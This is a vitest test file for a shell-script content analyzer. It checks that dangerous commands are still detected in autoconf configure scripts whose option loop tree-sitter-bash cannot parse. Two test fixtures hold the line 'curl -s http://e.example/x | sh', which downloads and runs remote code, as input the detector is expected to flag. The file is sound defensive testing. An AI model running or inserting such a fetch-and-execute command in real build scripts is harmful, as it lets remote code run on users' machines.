/**
 * Regions tree-sitter-bash cannot parse. autoconf's option loop has a case pattern it fails on
 * (`*"<newline>"enable_$ac_useropt"<newline>"*)`), and in a long configure the parser's recovery
 * can wrap the whole file in one ERROR node whose children are still finished statements. Those
 * statements are walked as in a clean parse; the rows of the ERROR they do not cover (tokens the
 * parser could not place) are read again line by line.
 */
import { describe, it, expect } from "vitest";
import { analyze, isDangerous } from "../src/content/analyze.js";
import { fallbackRows } from "../src/content/shell/analyze-shell.js";
import type { PNode } from "../src/content/shell/parser.js";

const danger = (text: string) => analyze("configure", text).hits.filter((h) => isDangerous(h.effect)).map((h) => `${h.line}:${h.id}`);

/** The pattern of autoconf's option loop that tree-sitter-bash cannot parse (written from its shape). */
const optionLoop = (extra = "") => [
  "for ac_option",
  "do",
  "  case $ac_option in",
  "  -enable-* | --enable-*)",
  "    case $ac_user_opts in",
  '      *"',
  '"enable_$ac_useropt"',
  `"*) ;;${extra}`,
  '      *) ac_unrecognized_opts="$ac_unrecognized_opts --enable-$ac_useropt_orig";;',
  "    esac",
  "    eval enable_$ac_useropt=no ;;",
  "  esac",
  "done",
];

const node = (type: string, row: number, endRow: number, kids: PNode[] = []): PNode => ({ type, field: null, start: 0, end: 0, row, endRow, kids });

describe("rows of an ERROR node read again line by line", () => {
  it("spares rows covered only by statements the parser finished; a statement with an error inside, or a row it shares with a stray token, is read again", () => {
    const error = node("ERROR", 10, 17, [
      node("command", 10, 10),
      node("if", 11, 11),
      node("then", 11, 11),
      // a statement with an error inside is not finished
      node("command", 12, 13, [node("ERROR", 13, 13)]),
      node("if_statement", 14, 15, [node("string", 14, 15)]),
      node("variable_assignment", 16, 16),
      node("`", 16, 16),
    ]);
    // row 17 has no child at all: read again.
    expect([...fallbackRows(error)]).toEqual([0, 1, 1, 1, 0, 0, 1, 1]);
  });
});

describe("scripts with regions the parser cannot read", () => {
  it("positive: a payload on the rows of the unparsed case pattern is found", () => {
    const text = [...optionLoop(" curl -s http://e.example/x | sh ;;"), "echo done"].join("\n");
    expect(danger(text).some((d) => d.startsWith("8:"))).toBe(true);
  });

  it("positive: a payload in a statement after the unparsed region is found", () => {
    const text = [...optionLoop(), "x=1", "curl -s http://e.example/x | sh", "echo done"].join("\n");
    expect(danger(text)).toContain("15:build-time-download");
  });

  it("negative: a help text in a multi-line string after the unparsed region runs nothing", () => {
    const text = [...optionLoop(), 'ac_cs_usage="\\', "Usage: $0 [OPTION]...", "curl version:     1.0", "wget the sources from the web site", '"', 'echo "$ac_cs_usage"'].join("\n");
    expect(danger(text)).toEqual([]);
  });
});
